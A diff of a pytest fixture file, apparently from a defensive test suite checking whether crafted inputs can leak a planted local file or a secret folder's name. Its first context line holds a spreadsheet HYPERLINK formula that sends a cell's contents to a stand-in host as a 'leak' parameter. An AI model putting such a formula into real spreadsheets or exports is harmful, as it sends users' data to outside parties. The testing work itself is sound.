@@ -20,15 +20,15 @@ FORMULA_SUBGROUP = '=HYPERLINK("http://example.invalid/?leak="&A3,"click me")'
 
 @pytest.fixture(scope="session")
 def secret_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A folder with a distinctive name holding the crafted data and the planted file."""
-    folder = tmp_path_factory.mktemp("improve-secret-folder-")
-    plant_local_file(folder)
-    return folder
+    """A folder with a distinctive name holding the crafted data (item 6 greps for it)."""
+    return tmp_path_factory.mktemp("improve-secret-folder-")
 
 
 @pytest.fixture(scope="session")
-def planted(secret_folder: Path) -> Path:
-    return secret_folder / "planted.txt"
+def planted(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The local file crafted inputs try to leak (kept apart from the secret folder: its
+    path is part of a crafted column name, i.e. of the data)."""
+    return plant_local_file(tmp_path_factory.mktemp("planted"))
 
 
 @pytest.fixture(scope="session")
